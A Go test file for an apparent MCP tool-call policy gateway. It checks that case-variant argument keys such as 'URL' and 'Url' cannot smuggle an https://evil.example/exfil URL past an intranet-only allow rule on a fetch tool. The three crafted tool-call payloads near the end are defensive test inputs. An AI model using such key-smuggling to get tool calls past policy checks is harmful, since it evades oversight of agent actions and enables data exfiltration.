package main

import (
	"context"
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mark3labs/mcp-go/server"
)

// TestArgumentKeyCaseVariant (found by an attacker review): a condition reads args.url, but the
// arguments also carry "URL" (or "ur\u212a"-style Unicode fold variants).
// A Go upstream binding arguments to a struct with encoding/json (mcp-go's
// NewTypedToolHandler, BindArguments) matches keys case-insensitively and
// takes the last one, so it fetches a URL the condition never saw.
func TestArgumentKeyCaseVariant(t *testing.T) {
	var mu sync.Mutex
	var fetched []string
	s := server.NewMCPServer("fetcher", "1")
	type fetchArgs struct {
		URL string `json:"url"`
	}
	s.AddTool(mcp.NewTool("fetch", mcp.WithString("url")), mcp.NewTypedToolHandler(func(_ context.Context, _ mcp.CallToolRequest, a fetchArgs) (*mcp.CallToolResult, error) {
		mu.Lock()
		fetched = append(fetched, a.URL)
		mu.Unlock()
		return mcp.NewToolResultText("fetched " + a.URL), nil
	}))
	g := startServeWith(t, `policy:
  default: deny
  result_mode: tool_result
  rules:
    - {id: intranet-only, match: {match_tool: [fetch]}, when: 'args.url.startsWith("https://intranet.example/")', decision: allow}
`, func(http.Handler) http.Handler { return server.NewStreamableHTTPServer(s) })

	hdr := map[string]string{"Mcp-Protocol-Version": "2025-11-25"}
	_, h, body := postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"alice","version":"1"}}}`)
	sid := h.Get("Mcp-Session-Id")
	if sid == "" {
		t.Fatalf("initialize: no session: %s", body)
	}
	hdr["Mcp-Session-Id"] = sid
	postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)

	for i, args := range []string{
		`{"url":"https://intranet.example/a","URL":"https://evil.example/exfil?1"}`,
		`{"url":"https://intranet.example/a","Url":"https://evil.example/exfil?2"}`,
		`{"url":"https://intranet.example/a","\u0055RL":"https://evil.example/exfil?3"}`,
	} {
		_, _, got := postWithHeaders(t, g.url, hdr, `{"jsonrpc":"2.0","id":`+string(rune('1'+i))+`,"method":"tools/call","params":{"name":"fetch","arguments":`+args+`}}`)
		t.Logf("%s -> %s", args, got)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, u := range fetched {
		if !strings.HasPrefix(u, "https://intranet.example/") {
			t.Errorf("the upstream fetched %q, which the condition args.url.startsWith(\"https://intranet.example/\") never saw", u)
		}
	}
}
